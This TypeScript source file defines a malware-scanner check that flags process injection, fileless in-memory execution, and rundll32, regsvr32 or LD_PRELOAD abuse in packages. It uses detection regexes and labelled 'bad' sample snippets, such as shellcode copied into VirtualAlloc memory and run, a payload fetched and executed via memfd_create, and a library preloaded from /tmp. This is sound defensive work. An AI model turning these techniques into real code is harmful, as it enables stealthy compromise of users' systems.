import type { FileCheck } from '../../check.ts';
import { isCommented } from '../../facts/text/comments.ts';
import { documentationIn } from '../../facts/text/documentation.ts';
import { isCode } from '../../inventory/language.ts';

/** A call, not a word in a text: each needs its bracket. */
const CALLS =
  /\b(?:WriteProcessMemory|CreateRemoteThread(?:Ex)?|NtCreateThreadEx|QueueUserAPC|NtUnmapViewOfSection|RtlMoveMemory|SetThreadContext|RtlCreateUserThread)\s{0,2}\(|\b(?:ctypes\.CDLL|cdll\.LoadLibrary|getattr\(\s{0,2}\w{1,20},\s{0,2}["']CDLL["']\)|WinDLL)\s{0,2}\([^\n)]{0,80}\.(?:py|dat|bin|tmp|db|txt|png|jpg)["']|\bptrace\(\s{0,2}PTRACE_POKE(?:TEXT|DATA)|\binjector?\.\w{0,12}[iI]nject\w{0,12}\s{0,2}\(\s{0,60}(?:\w{0,20}(?:[pP]id|[pP]rocess)\b|\d|["'][^"'\n]{1,80}\.exe\b)/g;
const COMMANDS =
  /\brundll32(?:\.exe)?(?![\s\S]{0,80}(?:url\.dll,\s{0,2}FileProtocolHandler|shell32(?:\.dll)?,\s{0,2}OpenAs_RunDLL|user32(?:\.dll)?,\s{0,2}LockWorkStation|user(?:\.exe)?,\s{0,2}ExitWindows|powrprof(?:\.dll)?,\s{0,2}SetSuspendState))["']?,?\s{1,3}[^\s|][^\n]{0,80}|\bLD_PRELOAD["']?\s{0,2}[=,]\s{0,2}["']?\/(?:tmp|var\/tmp|dev\/shm)\/[^\s"']{1,80}|\bregsvr32(?:\.exe)?\s{1,3}\/s\b[^\n]{0,80}/gi;
const MEMORY = /\bVirtualAlloc(?:Ex)?\b|\bVirtualProtect\b|\bmmap\b/;

/** A file that lies in memory alone, or memory that is filled and then run: nothing on the disk shows what it was. */
const IN_MEMORY =
  /\b(?:unix\.MemfdCreate|memfd_create)\s{0,2}\(|\bSyscall\(\s{0,3}(?:319|unix\.SYS_MEMFD_CREATE)\b|\bCreateThread\s{0,2}\(\s{0,3}(?:IntPtr\.Zero|0|NULL|None|ptr::null\w{0,6}\(\))\s{0,3},/g;
/** Where such a file lies, and the name it is kept under, if any. */
const PLACE_IN_MEMORY =
  /(?:\b(?<name>[A-Za-z_]\w{0,40})\s{0,3}:?=\s{0,3}[^\n]{0,60})?["'`]\/proc\/(?:self|%d|\{[\w.()]{0,20}\})\/fd\//g;
const RUNS = String.raw`(?:\b(?:exec\w{0,4}|Exec|spawn\w{0,6}|Popen|run|call|check_\w{4,6}|system|popen|Command(?:Context)?|StartProcess|ForkExec|CDLL|LoadLibrary|dlopen)|Command::new)\s{0,2}\(\s{0,3}[^()\n]{0,60}(?:\w{1,20}\()?[^()\n]{0,40}`;
const RUNS_ON_THE_SPOT = new RegExp(`${RUNS}$`);
const FETCHED = /https?:\/\/|\bbase64\b|\bhex\.Decode/i;
const FILLED =
  /\bVirtualAlloc(?:Ex)?\b[^]{0,1500}\b(?:Marshal\.Copy|CopyMemory|RtlCopyMemory|memcpy|copy_nonoverlapping|memmove)\b/;

/** `def WriteProcessMemory(…): ...` of a stub says that there is one. */
const DECLARED = /\b(?:def|function|fn|func)\s{1,3}$/;

/** How a program gets at another one; its own threads it may call as it likes. */
const OF_ANOTHER =
  /\b(?:VirtualAllocEx|WriteProcessMemory|OpenProcess|OpenThread|NtMapViewOfSection|CREATE_SUSPENDED)\b/;

export const check: FileCheck = {
  id: 'rce-process-injection',
  title: 'Puts code into another program',
  severity: 'critical',
  kind: 'malice',
  confidence: 'high',
  since: '0.1.0',
  cwe: [506],
  why: `
    Writing into the memory of another process, starting a thread there or loading a library under a false name makes a
    trusted program do the work of an untrusted one. Debuggers need it; packages do not.`,
  fix: 'Remove it, unless the project is a debugger, and then say so.',
  blindSpots: 'Functions that are looked up by a computed name or number are not seen.',
  wants: {
    keywords: [
      'writeprocessmemory',
      'createremotethread',
      'ntcreatethreadex',
      'queueuserapc',
      'ntunmapviewofsection',
      'rtlmovememory',
      'setthreadcontext',
      'rtlcreateuserthread',
      'cdll',
      'windll',
      'ptrace',
      'rundll32',
      'regsvr32',
      'ld_preload',
      'memfd',
      'syscall(319',
      'createthread(',
      'inject.',
      'injector.',
    ],
  },
  examples: {
    bad: [
      { 'load.py': 'k = ctypes.windll.kernel32\nk.«WriteProcessMemory(»handle, address, code, len(code), None)\n' },
      { 'run.js': "exec('«rundll32 package.db,Start 1234');»\n" },
      { 'inject.js': "«injector.injectPID(process».pid, 'payload.dll');\n" },
      {
        'start.cc': `
          CreateProcess(path, NULL, NULL, NULL, FALSE, CREATE_SUSPENDED, NULL, NULL, &si, &pi);
          «QueueUserAPC(»(PAPCFUNC)address, pi.hThread, NULL);`,
      },
      {
        'run.go': `
          resp, _ := http.Get("https://cdn.example.net/a")
          fd, _, _ := syscall.«Syscall(319», name, 1, 0)
          syscall.Exec(fmt.Sprintf("/proc/self/fd/%d", fd), nil, nil)`,
      },
      {
        'run.py': `
          import base64, os, subprocess
          fd = os.«memfd_create(»"", 1)
          os.write(fd, base64.b64decode(DATA))
          place = f"/proc/self/fd/{fd}"
          subprocess.run([place])`,
      },
      {
        'run.cs': `
          var m = VirtualAlloc(IntPtr.Zero, size, 0x3000, 0x40);
          Marshal.Copy(code, 0, m, code.Length);
          «CreateThread(IntPtr.Zero,» 0, m, IntPtr.Zero, 0, IntPtr.Zero);`,
      },
      { 'pre.py': 'os.system("«LD_PRELOAD=/tmp/.x.so» /usr/bin/ssh")\n' },
    ],
    good: [
      { 'browse.js': "execFile('rundll32', ['url.dll,FileProtocolHandler', url]);\n" },
      {
        'browse.go': `
          switch runtime.GOOS {
          case "windows":
            cmd = "rundll32"
            args = []string{"url.dll,FileProtocolHandler", url}
          }
          exec.Command(cmd, args...).Start()`,
      },
      { 'open.ts': 'exec(`rundll32.exe shell32.dll,OpenAs_RunDLL ` + filePath);\n' },
      { 'watch.cc': 'QueueUserAPC([](ULONG_PTR) {}, mThread.native_handle(), (ULONG_PTR)this);\n' },
      { 'share.go': 'fd, err := unix.MemfdCreate("frame", 0)\nerr = unix.Ftruncate(fd, size)\n' },
      {
        'keys.py': `
          import base64, os, subprocess
          def place(key):
              fd = os.memfd_create("key", 0)
              os.write(fd, base64.b64decode(key))
              return f"/proc/self/fd/{fd}"
          subprocess.run(["issue-certificate"])`,
      },
      { 'worker.c': 'handle = CreateThread(NULL, 0, work, argument, 0, NULL);\n' },
      { 'win32process.pyi': 'def WriteProcessMemory(handle, address, buffer) -> None: ...\n' },
      { 'note.py': 'text = "a string that names CreateRemoteThread"\n' },
      { 'lib.py': 'lib = ctypes.CDLL("libc.so.6")\n' },
      { 'export.cs': 'foreach (var injector in injectors) injector.Inject(folder);\n' },
      { 'off.py': '# os.system("rundll32 package.db,Start 1234")\nos.system("rundll32.exe user.exe,ExitWindows")\n' },
      {
        'keys.py':
          '"""Values of a key.\n\n    "Tray"="rundll32.exe \\"C:\\\\Tools\\\\tray.dll\\",App"\n"""\ndef read(key):\n    return key\n',
      },
      { 'test.sh': 'LD_PRELOAD=/usr/lib/libjemalloc.so ./server\n' },
    ],
  },

  *find({ windows, text, language, context }) {
    if (!isCode(language) || context === 'docs') return;
    const isDocumentation = documentationIn(text, language);
    const isTold = (at: number): boolean => isCommented(text, at) || isDocumentation(at);
    for (const window of windows) {
      for (const match of window.text.matchAll(CALLS)) {
        if (match[0].startsWith('RtlMoveMemory') && !MEMORY.test(window.text)) continue;
        if (match[0].startsWith('QueueUserAPC') && !OF_ANOTHER.test(text)) continue;
        if (isTold(window.start + match.index) || DECLARED.test(window.text.slice(0, match.index))) continue;
        yield {
          at: window.spanOf(match),
          message: 'The code puts other code into a program that is running, or loads it under a false name.',
        };
      }
      for (const match of window.text.matchAll(IN_MEMORY)) {
        const isThread = match[0].startsWith('CreateThread');
        const isRun = isThread ? FILLED.test(text) : runsFromMemory(text) && FETCHED.test(text);
        if (!isRun || isTold(window.start + match.index)) continue;
        yield {
          at: window.spanOf(match),
          message: 'The code runs a program that lies in memory alone, where nobody can look at it.',
          confidence: 'medium',
        };
      }
      for (const match of window.text.matchAll(COMMANDS)) {
        if (isTold(window.start + match.index)) continue;
        yield {
          at: window.span(match.index, match.index + match[0].trimEnd().length),
          message: 'A library is loaded into a program of the system.',
          confidence: 'medium',
        };
      }
    }
  },
};

/** Whether a program is started from memory; a key or a certificate may lie there too. */
function runsFromMemory(text: string): boolean {
  if (/\bfexecve\b/.test(text)) return true;
  return [...text.matchAll(PLACE_IN_MEMORY)].some(({ 0: place, index, groups }) => {
    const quote = index + place.search(/["'`]\/proc/);
    if (RUNS_ON_THE_SPOT.test(text.slice(Math.max(0, quote - 160), quote).replace(/[bfru]{1,2}$/i, ''))) return true;
    const name = groups?.['name'];
    return name !== undefined && new RegExp(`${RUNS}\\b${name}\\b`).test(text.slice(index));
  });
}
